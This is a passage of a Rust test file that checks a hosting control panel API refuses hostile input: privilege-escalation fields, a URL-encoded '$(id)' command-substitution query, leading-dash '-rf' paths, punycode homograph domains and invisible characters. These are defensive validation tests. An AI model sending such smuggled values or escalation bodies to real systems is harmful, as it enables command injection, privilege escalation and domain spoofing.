            json!({"domain": "new.example.com", "tls_key_path": "/etc/ssl/private/x.key"}),
        ),
        (
            at(Admin, PATCH, UPDATE_VHOST),
            "tenant",
            json!({"tenant": "other"}),
        ),
        (
            at(Admin, POST, "/plans"),
            "php.open_basedir",
            json!({"name": "pro", "php": {"open_basedir": "/"}}),
        ),
        (
            at(Admin, POST, "/users"),
            "is_admin",
            with(&newbie, "is_admin", json!(true)),
        ),
        (
            at(Admin, POST, "/users"),
            "limits.max_sites",
            with(&newbie, "limits", json!({"max_sites": 1})),
        ),
        (
            at(Admin, PATCH, "/users/resa"),
            "role",
            json!({"role": "admin"}),
        ),
        (
            tokens.clone(),
            "role",
            json!({"username": ADMIN, "password": ADMIN_PASSWORD, "role": "admin"}),
        ),
    ];
    for (route, field, body) in unknown {
        rows.push(route.bodies(field, vec![body]));
    }

    // Query strings are checked too.
    let query = |path: &'static str, field: &str, queries: Vec<Value>| {
        at(Admin, GET, path).sends(Expect::Invalid(field.into()), queries, |q| {
            Send::Query(q.as_str().unwrap().to_owned())
        })
    };
    let limits = strings(["limit=0", "limit=501", "limit=-1", "limit=abc", "limit=1e3"]);
    rows.push(query("/tenants", "limit", limits));
    rows.push(query(
        "/tenants",
        "after",
        strings([format!("after={}", "a".repeat(301))]),
    ));
    rows.push(query("/tenants", "q", strings(["q=%24%28id%29"])));
    rows.push(query("/users", "role", strings(["role=root"])));
    for q in ["since=yesterday", "until=2024-13-01T00:00:00Z", "after=abc"] {
        rows.push(query("/audit", q.split('=').next().unwrap(), strings([q])));
    }
    f.refuse_all("malformed bodies", rows).await;
}

/// A body over the limit sent without a Content-Length (chunked) is refused as too large,
/// like one that announces its length.
#[tokio::test]
async fn oversized_chunked_body_is_413() {
    let f = fixture().await;
    let row = at(Who::Admin, POST, "/plans").send(Expect::Status(413), || {
        let mut body = b"{\"name\":\"".to_vec();
        body.extend(std::iter::repeat_n(b'a', 300 * 1024));
        body.extend(b"\"}");
        let mut framed = Vec::new();
        for chunk in body.chunks(16 * 1024) {
            framed.extend(format!("{:x}\r\n", chunk.len()).as_bytes());
            framed.extend(chunk);
            framed.extend(b"\r\n");
        }
        framed.extend(b"0\r\n\r\n");
        Send::Wire("Transfer-Encoding: chunked".into(), framed)
    });
    f.refuse_all("oversized chunked body", vec![row]).await;
}

/// Leading dashes are hostile in anything that may reach a command line (`-rf`, `--help`):
/// names and domains refuse them, and so must document roots and front controllers.
#[tokio::test]
async fn paths_refuse_a_leading_dash() {
    let f = fixture().await;
    let create = at(Who::Admin, POST, CREATE_VHOST);
    let rows = vec![
        create.each(
            "docroot",
            strings(["-rf", "--help", "sites/-rf/public"]),
            |v| json!({"domain": "dash.example.com", "docroot": v}),
        ),
        create.each(
            "front_controller",
            strings(["/-x.php", "/--help.php"]),
            |v| json!({"domain": "dash.example.com", "front_controller": v}),
        ),
    ];
    f.refuse_all("leading dashes", rows).await;
}

/// A homograph spelled in punycode is the same homograph: `xn--exmple-4nf.com` is
/// "exаmple.com" with a Cyrillic 'а', which is refused when sent in Unicode.
#[tokio::test]
async fn punycode_homographs_are_refused_like_their_unicode_form() {
    let f = fixture().await;
    let create = at(Who::Admin, POST, CREATE_VHOST);
    // The Unicode form is refused, and so must be its ASCII spelling.
    let domains = strings([
        "ex\u{0430}mple.com",
        "p\u{0430}ypal.com",
        "xn--exmple-4nf.com",
        "xn--pypal-4ve.com",
    ]);
    let rows = vec![
        create.each("domain", domains, |v| json!({"domain": v})),
        create.each(
            "aliases[0]",
            strings(["xn--exmple-4nf.com"]),
            |v| json!({"domain": "fine.example.com", "aliases": [v]}),
        ),
    ];
    f.refuse_all("punycode homographs", rows).await;
}

/// Invisible characters are refused, never silently dropped: lodge refuses a zero-width
/// space in a domain, and must refuse the other characters IDNA would quietly delete (soft
/// hyphen, combining grapheme joiner, variation selectors, Mongolian vowel separator) rather
/// than store a different name than the one sent.
#[tokio::test]
async fn invisible_characters_in_domains_are_refused() {
    let f = fixture().await;
    let domains = strings(
        [
            '\u{200b}',
            '\u{00ad}',
            '\u{034f}',
            '\u{fe0f}',
            '\u{180e}',
            '\u{1d173}',
        ]
        .map(|invisible| format!("exa{invisible}mple.org")),
    );
    let rows =
        vec![at(Who::Admin, POST, CREATE_VHOST).each("domain", domains, |v| json!({"domain": v}))];
    f.refuse_all("invisible characters", rows).await;
}
